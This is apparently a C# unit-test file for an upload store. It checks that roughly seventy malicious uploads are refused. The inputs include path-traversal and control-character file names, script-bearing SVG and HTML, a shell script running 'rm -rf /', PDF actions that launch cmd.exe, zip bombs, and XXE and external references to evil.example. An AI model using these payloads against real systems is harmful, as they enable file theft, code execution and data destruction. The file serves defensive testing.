using Isc.Data;
using Isc.Library;
using Isc.Library.Uploads;

namespace Isc.Security.Tests.Uploads;

/// <summary>Files that harm whoever keeps, unpacks or opens them.</summary>
[Trait("Promise", "I26")]
[Trait("Promise", "I27")]
[Trait("Catalogue", "T13")]
public sealed class UploadAttackTests : IDisposable
{
    private static readonly UploadLimits Limits = new(Bytes: 3_000_000, UnpackedBytes: 20_000_000);
    private static readonly byte[] Pdf = "%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"u8.ToArray();
    private static readonly byte[] Png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82];
    private static readonly byte[] Jpeg = [0xFF, 0xD8, 0xFF, 0xE0, 0, 0, 0xFF, 0xD9];

    private readonly string _directory = Directory.CreateTempSubdirectory("isc-uploads-").FullName;

    private UploadStore Store => new(new(DatabaseProvider.Sqlite, "", _directory), Limits, new(null));

    public static TheoryData<string, string, byte[], UploadRefusal> Attacks { get; } = new()
    {
        { "path", "../a.pdf", Pdf, UploadRefusal.Name }, { "deep path", "../../../etc/passwd.pdf", Pdf, UploadRefusal.Name },
        { "absolute path", "/etc/a.pdf", Pdf, UploadRefusal.Name }, { "drive", "C:\\a.pdf", Pdf, UploadRefusal.Name }, { "backslashes", "..\\a.pdf", Pdf, UploadRefusal.Name },
        { "encoded path", "..%2fa.pdf", Pdf, UploadRefusal.Name }, { "NUL", "a.php\0.pdf", Pdf, UploadRefusal.Name }, { "line end", "a\r\nX: y.pdf", Pdf, UploadRefusal.Name },
        { "right-to-left override", "a\u202Efdp.exe.pdf", Pdf, UploadRefusal.Name }, { "isolate", "a\u2066b.pdf", Pdf, UploadRefusal.Name },
        { "zero width", "a\u200B.pdf", Pdf, UploadRefusal.Name }, { "reserved", "CON.pdf", Pdf, UploadRefusal.Name }, { "reserved port", "com1.pdf", Pdf, UploadRefusal.Name },
        { "reserved superscript", "LPT¹.pdf", Pdf, UploadRefusal.Name }, { "reserved with space", "nul .pdf", Pdf, UploadRefusal.Name }, { "stream", "a.pdf:b.pdf", Pdf, UploadRefusal.Name },
        { "hidden", ".htaccess.pdf", Pdf, UploadRefusal.Name }, { "end point", "a.pdf.", Pdf, UploadRefusal.Name }, { "end space", "a.pdf ", Pdf, UploadRefusal.Name },
        { "markup", "<img src=x>.pdf", Pdf, UploadRefusal.Name }, { "quotation mark", "a\".pdf", Pdf, UploadRefusal.Name }, { "long", new string('a', 200) + ".pdf", Pdf, UploadRefusal.Name },
        { "no name", "", Pdf, UploadRefusal.Name }, { "tabulator", "a\tb.pdf", Pdf, UploadRefusal.Name }, { "lone surrogate", "a\uD800.pdf", Pdf, UploadRefusal.Name },
        { "program", "a.exe", Pdf, UploadRefusal.Kind }, { "page", "a.html", Pdf, UploadRefusal.Kind }, { "drawing", "a.svg", "<svg onload=\"alert(1)\"/>"u8.ToArray(), UploadRefusal.Kind },
        { "script", "a.js", Pdf, UploadRefusal.Kind }, { "archive", "a.zip", Packages.Document(), UploadRefusal.Kind }, { "macros by name", "a.docm", Packages.Document(), UploadRefusal.Kind },
        { "no extension", "pdf", Pdf, UploadRefusal.Kind }, { "two extensions", "a.pdf.php", Pdf, UploadRefusal.Kind }, { "XML", "a.xml", Pdf, UploadRefusal.Kind },
        { "nothing", "a.pdf", [], UploadRefusal.Empty }, { "limit and one", "a.txt", Filled(3_000_001), UploadRefusal.TooLarge },
        { "program as PDF", "a.pdf", "MZ\u0090"u8.ToArray(), UploadRefusal.Content }, { "page as PDF", "a.pdf", "<html><script>alert(1)</script></html>"u8.ToArray(), UploadRefusal.Content },
        { "page as text", "a.txt", "<!DOCTYPE html><script>alert(1)</script>"u8.ToArray(), UploadRefusal.Content }, { "drawing as text", "a.md", " \n<svg onload=alert(1)>"u8.ToArray(), UploadRefusal.Content },
        { "PDF as text", "a.txt", Pdf, UploadRefusal.Content }, { "binary as table", "a.csv", [1, 2, 0, 3], UploadRefusal.Content }, { "bad UTF-8", "a.txt", [0xC3, 0x28], UploadRefusal.Content },
        { "shell as text", "a.txt", "#!/bin/sh\nrm -rf /"u8.ToArray(), UploadRefusal.Content }, { "PNG as JPEG", "a.jpg", Png, UploadRefusal.Content }, { "JPEG as PNG", "a.png", Jpeg, UploadRefusal.Content },
        { "PNG with an archive after it", "a.png", [.. Png, .. Packages.Document()], UploadRefusal.Content }, { "JPEG with a page after it", "a.jpg", [.. Jpeg, .. "<script>"u8.ToArray()], UploadRefusal.Content },
        { "PDF with an archive after it", "a.pdf", [.. Pdf, .. Packages.Document()], UploadRefusal.Content }, { "page before a PDF", "a.pdf", [.. "<script>"u8.ToArray(), .. Pdf], UploadRefusal.Content },
        { "PDF that runs", "a.pdf", "%PDF-1.7\n<< /S /JavaScript /JS (app.alert(1)) >>\n%%EOF"u8.ToArray(), UploadRefusal.Active },
        { "PDF that launches", "a.pdf", "%PDF-1.7\n<< /S /Launch /F (cmd.exe) >>\n%%EOF"u8.ToArray(), UploadRefusal.Active },
        { "PDF with a file", "a.pdf", "%PDF-1.7\n<< /Type /EmbeddedFile >>\n%%EOF"u8.ToArray(), UploadRefusal.Active },
        { "archive as document", "a.docx", Packages.Zip(("a.txt", "a"u8.ToArray())), UploadRefusal.Content }, { "document as sheet", "a.xlsx", Packages.Document(), UploadRefusal.Content },
        { "document cut off", "a.docx", Packages.Document()[..^30], UploadRefusal.Content }, { "program before a document", "a.docx", [.. "MZ"u8.ToArray(), .. Packages.Document()], UploadRefusal.Content },
        { "bytes after a document", "a.docx", [.. Packages.Document(), 1, 2, 3], UploadRefusal.Content },
        { "bomb", "a.docx", Packages.Document(("word/a.xml", new byte[5_000_000])), UploadRefusal.Unpacked }, { "many bombs", "a.docx", Packages.Document([.. Enumerable.Range(0, 40).Select(i => ($"word/{i}.bin", new byte[900_000]))]), UploadRefusal.Unpacked },
        { "nested bomb", "a.docx", Packages.Document(("word/embeddings/a.xlsx", Packages.Zip(("xl/a.xml", new byte[5_000_000])))), UploadRefusal.Unpacked },
        { "bomb two deep", "a.docx", Packages.Document(("word/embeddings/a.xlsx", Packages.Zip(("b.xlsx", Packages.Zip(("c", new byte[10])))))), UploadRefusal.Unpacked },
        { "overlapping parts", "a.docx", Packages.Overlapping(500), UploadRefusal.Unpacked }, { "too many parts", "a.docx", Packages.Document([.. Enumerable.Range(0, 2_100).Select(i => ($"word/{i}.bin", new byte[1]))]), UploadRefusal.Unpacked },
        { "foreign entity", "a.docx", Packages.Document(("word/a.xml", Packages.Xml("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"))), UploadRefusal.Content },
        { "foreign DTD", "a.docx", Packages.Document(("word/a.xml", Packages.Xml("<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>"))), UploadRefusal.Content },
        { "laughing entities", "a.docx", Packages.Document(("word/a.xml", Packages.Xml("<!DOCTYPE a [<!ENTITY b \"bb\"><!ENTITY c \"&b;&b;\">]><a>&c;</a>"))), UploadRefusal.Content },
        { "part above the folder", "a.docx", Packages.Document(("../../a.xml", "<a/>"u8.ToArray())), UploadRefusal.Content }, { "absolute part", "a.docx", Packages.Document(("/etc/a.xml", "<a/>"u8.ToArray())), UploadRefusal.Content },
        { "part with a drive", "a.docx", Packages.Document(("C:/a.xml", "<a/>"u8.ToArray())), UploadRefusal.Content }, { "part twice", "a.docx", Packages.Document(("WORD/document.xml", "<a/>"u8.ToArray())), UploadRefusal.Content },
        { "link", "a.docx", Packages.WithLink("/etc/passwd"), UploadRefusal.Content }, { "macros", "a.docx", Packages.Document(("word/vbaProject.bin", [1])), UploadRefusal.Active },
        { "program inside", "a.docx", Packages.Document(("word/a.exe", [1])), UploadRefusal.Active }, { "drawing inside", "a.docx", Packages.Document(("word/media/a.svg", [1])), UploadRefusal.Active },
        { "object inside", "a.docx", Packages.Document(("word/embeddings/oleObject1.bin", [1])), UploadRefusal.Active },
        { "foreign template", "a.docx", Packages.Document(("word/_rels/settings.xml.rels", Packages.Relationship("attachedTemplate", "http://evil.example/a.dotm"))), UploadRefusal.Active },
        { "foreign object", "a.docx", Packages.Document(("word/_rels/document.xml.rels", Packages.Relationship("oleObject", "file://evil/a"))), UploadRefusal.Active },
        { "foreign picture", "a.docx", Packages.Document(("word/_rels/document.xml.rels", Packages.Relationship("image", "\\\\evil\\a.png"))), UploadRefusal.Active },
        { "deep XML", "a.docx", Packages.Document(("word/a.xml", Packages.Xml(string.Concat(Enumerable.Repeat("<a>", 2_000)) + string.Concat(Enumerable.Repeat("</a>", 2_000))))), UploadRefusal.Content },
    };

    [Fact]
    public void There_are_sixty_attacks() => Assert.True(Attacks.Count >= 60, $"{Attacks.Count} attacks");

    [Theory]
    [MemberData(nameof(Attacks), DisableDiscoveryEnumeration = true)]
    public async Task An_attack_is_refused_and_leaves_nothing(string attack, string name, byte[] content, UploadRefusal refusal)
    {
        using var stream = new MemoryStream(content);
        var result = await Store.StoreAsync(stream, name, TestContext.Current.CancellationToken);
        Assert.True(result.Refusal == refusal, $"{attack}: {result.Refusal}");
        Assert.Empty(Directory.GetFiles(_directory, "*", SearchOption.AllDirectories));
    }

    public static TheoryData<string, byte[]> Sound { get; } = new()
    {
        { "Report (final) v2.pdf", Pdf }, { "تقرير.docx", Packages.Document(("word/_rels/document.xml.rels", Packages.Relationship("hyperlink", "https://itu.int"))) },
        { "报告.txt", "报告\n=1+1"u8.ToArray() }, { "a.png", Png }, { "a.JPG", Jpeg }, { "limit.csv", Filled(3_000_000) },
        { "chart.docx", Packages.Document(("word/embeddings/a.xlsx", Packages.Zip(("xl/workbook.xml", "<a/>"u8.ToArray())))) },
    };

    [Theory]
    [MemberData(nameof(Sound), DisableDiscoveryEnumeration = true)]
    public async Task A_sound_file_is_kept_under_a_name_that_nobody_chose(string name, byte[] content)
    {
        using var stream = new MemoryStream(content);
        var stored = (await Store.StoreAsync(stream, name, TestContext.Current.CancellationToken)).Stored!;
        Assert.Equal(32, stored.Place.Length);
        Assert.Equal([stored.Place], Directory.EnumerateFiles(Path.Combine(_directory, "uploads")).Select(Path.GetFileName));
        await using var kept = Store.Open(stored.Place)!;
        using var copy = new MemoryStream();
        await kept.CopyToAsync(copy, TestContext.Current.CancellationToken);
        Assert.Equal(content, copy.ToArray());
    }

    [Theory]
    [InlineData("../isc.db")]
    [InlineData("")]
    [InlineData("0123456789abcdef0123456789abcdeX")]
    public void No_place_leads_out_of_the_store(string place) => Assert.Null(Store.Open(place));

    public void Dispose() => Directory.Delete(_directory, recursive: true);

    private static byte[] Filled(int length)
    {
        var content = new byte[length];
        Array.Fill(content, (byte)'a');
        return content;
    }
}
